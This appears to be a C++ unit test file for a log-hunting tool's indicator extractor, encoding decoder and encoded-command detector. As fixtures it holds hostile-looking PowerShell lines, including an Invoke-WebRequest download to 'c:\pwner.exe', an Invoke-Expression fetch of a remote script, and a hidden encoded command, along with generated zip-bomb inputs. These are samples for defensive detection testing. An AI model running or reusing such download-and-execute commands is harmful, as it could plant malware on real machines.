@@ -1,0 +1,335 @@
+// IocExtractor, Decoder and IocDetector on minimal lines written for each
+// behaviour (the corpus suites are in ioc_corpus_test.cc).
+#include <archive.h>
+#include <archive_entry.h>
+#include <gtest/gtest.h>
+#include <zlib.h>
+
+#include <algorithm>
+#include <set>
+#include <string>
+#include <utility>
+
+#include "detectors/decode/decoder.h"
+#include "detectors/ioc/ioc_detector.h"
+#include "detectors/ioc/ioc_extractor.h"
+
+namespace loghunt {
+namespace {
+
+using Found = std::set<std::pair<std::string, std::string>>;
+
+Found Extract(std::string_view text, bool defanged = true) {
+  IocOptions options;
+  options.defanged = defanged;
+  IocExtractor extractor(IocPatterns::Default(), options);
+  Arena arena;
+  std::vector<Ioc> iocs;
+  extractor.Extract(text, arena, &iocs);
+  Found found;
+  for (const Ioc& i : iocs) found.insert({std::string(IocTypeName(i.type)), std::string(i.value)});
+  return found;
+}
+
+std::string Base64(std::string_view bytes) {
+  static const char* kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  std::string out;
+  size_t i = 0;
+  for (; i + 2 < bytes.size(); i += 3) {
+    uint32_t v = static_cast<uint8_t>(bytes[i]) << 16 | static_cast<uint8_t>(bytes[i + 1]) << 8 |
+                 static_cast<uint8_t>(bytes[i + 2]);
+    for (int k = 3; k >= 0; --k) out += kAlphabet[(v >> (6 * k)) & 63];
+  }
+  if (i + 1 == bytes.size()) {
+    uint32_t v = static_cast<uint8_t>(bytes[i]) << 16;
+    out += kAlphabet[v >> 18];
+    out += kAlphabet[(v >> 12) & 63];
+    out += "==";
+  } else if (i + 2 == bytes.size()) {
+    uint32_t v = static_cast<uint8_t>(bytes[i]) << 16 | static_cast<uint8_t>(bytes[i + 1]) << 8;
+    out += kAlphabet[v >> 18];
+    out += kAlphabet[(v >> 12) & 63];
+    out += kAlphabet[(v >> 6) & 63];
+    out += '=';
+  }
+  return out;
+}
+
+std::string Utf16le(std::string_view ascii) {
+  std::string out;
+  for (char c : ascii) {
+    out += c;
+    out += '\0';
+  }
+  return out;
+}
+
+std::string Gzip(std::string_view data, int window_bits = 15 + 16) {
+  z_stream zs{};
+  deflateInit2(&zs, 9, Z_DEFLATED, window_bits, 9, Z_DEFAULT_STRATEGY);
+  std::string out(deflateBound(&zs, data.size()) + 64, '\0');
+  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
+  zs.avail_in = static_cast<uInt>(data.size());
+  zs.next_out = reinterpret_cast<Bytef*>(out.data());
+  zs.avail_out = static_cast<uInt>(out.size());
+  deflate(&zs, Z_FINISH);
+  out.resize(zs.total_out);
+  deflateEnd(&zs);
+  return out;
+}
+
+std::string Zip(const std::string& name, std::string_view data) {
+  struct archive* a = archive_write_new();
+  archive_write_set_format_zip(a);
+  std::string out(data.size() / 100 + 64 * 1024, '\0');
+  size_t used = 0;
+  archive_write_open_memory(a, out.data(), out.size(), &used);
+  struct archive_entry* e = archive_entry_new();
+  archive_entry_set_pathname(e, name.c_str());
+  archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
+  archive_entry_set_filetype(e, AE_IFREG);
+  archive_entry_set_perm(e, 0644);
+  archive_write_header(a, e);
+  archive_write_data(a, data.data(), data.size());
+  archive_entry_free(e);
+  archive_write_close(a);
+  archive_write_free(a);
+  out.resize(used);
+  return out;
+}
+
+constexpr std::string_view kSeedPlain =
+    "Invoke-WebRequest -Uri \"http://38.75.137.9:9088/static/encrypt.min.js\" -OutFile "
+    "\"c:\\pwner.exe\"";
+
+TEST(IocExtractor, FindsTheSeedIndicatorsInPlainText) {
+  Found f = Extract(kSeedPlain);
+  EXPECT_TRUE(f.count({"ipv4", "38.75.137.9"}));
+  EXPECT_TRUE(f.count({"url", "http://38.75.137.9:9088/static/encrypt.min.js"}));
+  EXPECT_TRUE(f.count({"windows_path", "c:\\pwner.exe"}));
+  // msticpy also reports //38.75.137.9:9088 and /static/encrypt.min.js" as linux_path.
+  for (const auto& [type, value] : f) EXPECT_NE(type, "linux_path") << value;
+  EXPECT_FALSE(f.count({"dns", "encrypt.min.js"}));
+}
+
+TEST(IocExtractor, Ipv4NeedsOctetsUpTo255AndNoDigitOrDotNeighbours) {
+  EXPECT_TRUE(Extract("ping 8.8.8.8 now").count({"ipv4", "8.8.8.8"}));
+  EXPECT_TRUE(Extract("connect to 10.0.0.1.").count({"ipv4", "10.0.0.1"}));
+  EXPECT_TRUE(Extract("999.1.1.1 1.2.3.4.5 10.0.17763.1").empty());
+}
+
+TEST(IocExtractor, Ipv6AcceptsCompressedAndEmbeddedFormsButNotTimesOrMacs) {
+  Found f = Extract("a 2001:db8::8a2e:370:7334 b ::ffff:192.0.2.128 c fe80::1");
+  EXPECT_TRUE(f.count({"ipv6", "2001:db8::8a2e:370:7334"}));
+  EXPECT_TRUE(f.count({"ipv6", "::ffff:192.0.2.128"}));
+  EXPECT_TRUE(f.count({"ipv6", "fe80::1"}));
+  EXPECT_TRUE(Extract("at 12:30:45 from aa:bb:cc:dd:ee:ff std::string").empty());
+  EXPECT_TRUE(Extract("-ip6:2001:db8::1").count({"ipv6", "2001:db8::1"}));
+}
+
+TEST(IocExtractor, DomainsMustEndInAPublicSuffix) {
+  EXPECT_TRUE(Extract("a domain.like.uk in it").count({"dns", "domain.like.uk"}));
+  EXPECT_TRUE(Extract("a news.ycombinator.com in it").count({"dns", "news.ycombinator.com"}));
+  EXPECT_TRUE(Extract("a domain.like.iandom and powershell.exe").empty());
+}
+
+TEST(IocExtractor, DefangedSpellingsAreRefangedAndFlagged) {
+  IocExtractor extractor;
+  Arena arena;
+  std::vector<Ioc> iocs;
+  extractor.Extract("get hxxps://evil[.]example[.]com/x and mail bob[at]evil(dot)org 1.2[.]3.4",
+                    arena, &iocs);
+  Found f;
+  for (const Ioc& i : iocs) {
+    f.insert({std::string(IocTypeName(i.type)), std::string(i.value)});
+    EXPECT_TRUE(i.defanged) << i.value;
+  }
+  EXPECT_TRUE(f.count({"url", "https://evil.example.com/x"}));
+  EXPECT_TRUE(f.count({"dns", "evil.example.com"}));
+  EXPECT_TRUE(f.count({"email", "bob@evil.org"}));
+  EXPECT_TRUE(f.count({"ipv4", "1.2.3.4"}));
+  EXPECT_TRUE(Extract("1.2[.]3.4 hxxp://a[.]com", /*defanged=*/false).empty());
+}
+
+TEST(IocExtractor, HashesAreBoundedByNonHexWithoutSwallowingANeighbour) {
+  std::string md5a(32, 'a'), md5b(32, 'b'), sha1(40, 'c'), sha256(64, 'd');
+  Found f = Extract(md5a + "," + md5b + " x=" + sha1 + "h " + sha256 + " " + std::string(33, 'e'));
+  EXPECT_TRUE(f.count({"md5", md5a}));
+  EXPECT_TRUE(f.count({"md5", md5b}));
+  EXPECT_TRUE(f.count({"sha1", sha1}));
+  EXPECT_TRUE(f.count({"sha256", sha256}));
+  EXPECT_EQ(f.size(), 4u);
+}
+
+TEST(IocExtractor, PathsFollowMsticpyRootsWithoutUrlParts) {
+  Found w = Extract(R"(c:\one\path\myprocess -file:"..\another\file" -file:"\\uncpath\file")");
+  EXPECT_TRUE(w.count({"windows_path", R"(c:\one\path\myprocess)"}));
+  EXPECT_TRUE(w.count({"windows_path", R"(..\another\file)"}));
+  EXPECT_TRUE(w.count({"windows_path", R"(\\uncpath\file)"}));
+  Found l = Extract("/bin/bash --file:./bish --file:/bin/bash --file:../../bosh /c");
+  EXPECT_EQ(
+      l,
+      (Found{{"linux_path", "/bin/bash"}, {"linux_path", "./bish"}, {"linux_path", "../../bosh"}}));
+}
+
+TEST(IocExtractor, IpClassesAreSet) {
+  IocExtractor extractor;
+  Arena arena;
+  std::vector<Ioc> iocs;
+  extractor.Extract("10.1.2.3 127.0.0.1 169.254.1.1 224.0.0.1 192.0.2.1 8.8.8.8 ::1", arena, &iocs);
+  std::vector<std::string> classes;
+  for (const Ioc& i : iocs) classes.emplace_back(IpClassName(i.ip_class));
+  EXPECT_EQ(classes, (std::vector<std::string>{"private", "loopback", "link_local", "multicast",
+                                               "reserved", "public", "loopback"}));
+}
+
+TEST(IocExtractor, BadInputYieldsNothingAndStaysBounded) {
+  std::string junk;
+  for (int i = 0; i < 200000; ++i) junk += "[.";
+  EXPECT_TRUE(Extract(junk).empty());
+  std::string dots(300000, '.');
+  EXPECT_TRUE(Extract(dots).empty());
+  std::string binary;
+  for (int i = 0; i < 65536; ++i) binary += static_cast<char>(i * 7919);
+  Extract(binary);  // must not crash
+  EXPECT_TRUE(Extract("").empty());
+}
+
+TEST(Decoder, DecodesTheSeedAsBase64AndAsUtf16le) {
+  Decoder decoder;
+  std::string ascii = "powershell -enc " + Base64(kSeedPlain);
+  const auto& a = decoder.Decode(ascii);
+  ASSERT_EQ(a.size(), 1u);
+  EXPECT_EQ(a[0].chain, "base64");
+  EXPECT_EQ(a[0].text, kSeedPlain);
+  EXPECT_EQ(a[0].offset, 16u);
+  std::string wide = "powershell -enc " + Base64(Utf16le(kSeedPlain));
+  const auto& w = decoder.Decode(wide);
+  ASSERT_EQ(w.size(), 1u);
+  EXPECT_EQ(w[0].chain, "base64 > utf16le");
+  EXPECT_EQ(w[0].text, kSeedPlain);
+  EXPECT_EQ(w[0].depth, 2);
+}
+
+TEST(Decoder, HandlesUrlSafeUnpaddedWrappedHexAndNested) {
+  Decoder decoder;
+  std::string text = "this text hides http://evil.example.com/?a=b~~~ here";
+  std::string b64 = Base64(text);
+  std::string url = b64;
+  std::replace(url.begin(), url.end(), '+', '-');
+  std::replace(url.begin(), url.end(), '/', '_');
+  while (!url.empty() && url.back() == '=') url.pop_back();
+  const auto& u = decoder.Decode("x " + url + " y");
+  ASSERT_EQ(u.size(), 1u);
+  EXPECT_EQ(u[0].text, text);
+  std::string wrapped = b64.substr(0, 20) + "\r\n" + b64.substr(20);
+  ASSERT_EQ(decoder.Decode(wrapped).size(), 1u);
+  EXPECT_EQ(decoder.Decode(wrapped)[0].text, text);
+  std::string hex;
+  for (unsigned char c : text) {
+    static const char* d = "0123456789abcdef";
+    hex += d[c >> 4];
+    hex += d[c & 15];
+  }
+  const auto& h = decoder.Decode("data=" + hex);
+  ASSERT_EQ(h.size(), 1u);
+  EXPECT_EQ(h[0].chain, "hex");
+  std::string nested = "run " + Base64("echo " + Base64(Gzip(Utf16le(text))) + " | x");
+  const auto& n = decoder.Decode(nested);
+  ASSERT_EQ(n.size(), 2u);
+  EXPECT_EQ(n[1].chain, "base64 > base64 > gzip > utf16le");
+  EXPECT_EQ(n[1].parent, 0);
+  EXPECT_EQ(n[1].text, text);
+}
+
+TEST(Decoder, ReadsZipMembersAndRawDeflate) {
+  Decoder decoder;
+  std::string text = "payload: Invoke-Expression http://10.9.8.7/a.ps1";
+  const auto& z = decoder.Decode("blob " + Base64(Zip("inner.txt", text)));
+  ASSERT_EQ(z.size(), 1u);
+  EXPECT_EQ(z[0].chain, "base64 > zip");
+  EXPECT_EQ(z[0].name, "inner.txt");
+  EXPECT_EQ(z[0].text, text);
+  const auto& d = decoder.Decode("blob " + Base64(Gzip(text, -15)));
+  ASSERT_EQ(d.size(), 1u);
+  EXPECT_EQ(d[0].chain, "base64 > deflate");
+}
+
+TEST(Decoder, ZipBombStaysWithinTheByteBudget) {
+  std::string zeros(10 << 20, 'A');
+  std::string bomb = Base64(Zip("bomb.txt", zeros));
+  std::string gz = Base64(Gzip(zeros));
+  DecoderOptions options;
+  options.byte_budget = 1 << 20;
+  Decoder decoder(options);
+  for (const std::string& b : {bomb, gz}) {
+    const auto& layers = decoder.Decode(b);
+    EXPECT_LE(decoder.bytes_used(), options.byte_budget);
+    EXPECT_TRUE(decoder.budget_exhausted());
+    ASSERT_FALSE(layers.empty());
+    EXPECT_TRUE(layers[0].truncated);
+    EXPECT_LE(layers[0].text.size(), options.byte_budget);
+  }
+}
+
+TEST(Decoder, DepthIsBounded) {
+  std::string s = "echo hello from a deeply nested payload http://deep.example.com";
+  for (int i = 0; i < 25; ++i) s = Base64(s);
+  DecoderOptions options;
+  options.max_depth = 20;
+  Decoder decoder(options);
+  const auto& layers = decoder.Decode(s);
+  ASSERT_FALSE(layers.empty());
+  for (const auto& l : layers) EXPECT_LE(l.depth, 20);
+  EXPECT_EQ(layers.size(), 20u);
+}
+
+TEST(Decoder, WordsAndGarbageDoNotDecode) {
+  Decoder decoder;
+  EXPECT_TRUE(decoder.Decode("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop")
+                  .empty());
+  EXPECT_TRUE(decoder.Decode("ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQRSTUVWXYZ").empty());
+  EXPECT_TRUE(decoder.Decode(std::string(32, 'a')).empty());  // an md5, not hex text
+}
+
+TEST(IocDetector, AlertsOnIndicatorsInAnEncodedCommandWithChainAndEntities) {
+  IocDetectorOptions options;
+  IocDetector detector(options);
+  Event event;
+  event.kind = EventKind::kProcessStart;
+  event.host = "ws1";
+  std::string cmd = "powershell.exe -nop -w hidden -encodedcommand " + Base64(Utf16le(kSeedPlain));
+  event.process.command_line = cmd;
+  std::vector<Alert> alerts;
+  detector.Inspect(event, alerts);
+  ASSERT_EQ(alerts.size(), 1u);
+  const Alert& a = alerts[0];
+  EXPECT_EQ(a.rule.id, "loghunt.ioc.encoded_command");
+  std::set<std::string> types;
+  for (const Observable& o : a.observables) {
+    types.insert(o.type);
+    EXPECT_EQ(o.decode_chain, "base64 > utf16le");
+  }
+  EXPECT_EQ(types, (std::set<std::string>{"ipv4", "url", "windows_path"}));
+  std::set<std::string> entities;
+  for (const Entity& e : a.entities) entities.insert(e.type);
+  EXPECT_EQ(entities, (std::set<std::string>{"Host", "Process", "IpAddress", "Url", "File"}));
+
+  // Plain indicators alone are not the signal.
+  alerts.clear();
+  std::string plain(kSeedPlain);
+  event.process.command_line = plain;
+  detector.Inspect(event, alerts);
+  EXPECT_TRUE(alerts.empty());
+
+  // Dropping the only IP class leaves url and path.
+  options.drop_ip_classes = 1u << static_cast<unsigned>(IpClass::kPublic);
+  IocDetector dropping(options);
+  event.process.command_line = cmd;
+  dropping.Inspect(event, alerts);
+  ASSERT_EQ(alerts.size(), 1u);
+  for (const Observable& o : alerts[0].observables) EXPECT_NE(o.type, "ipv4");
+}
+
+}  // namespace
+}  // namespace loghunt
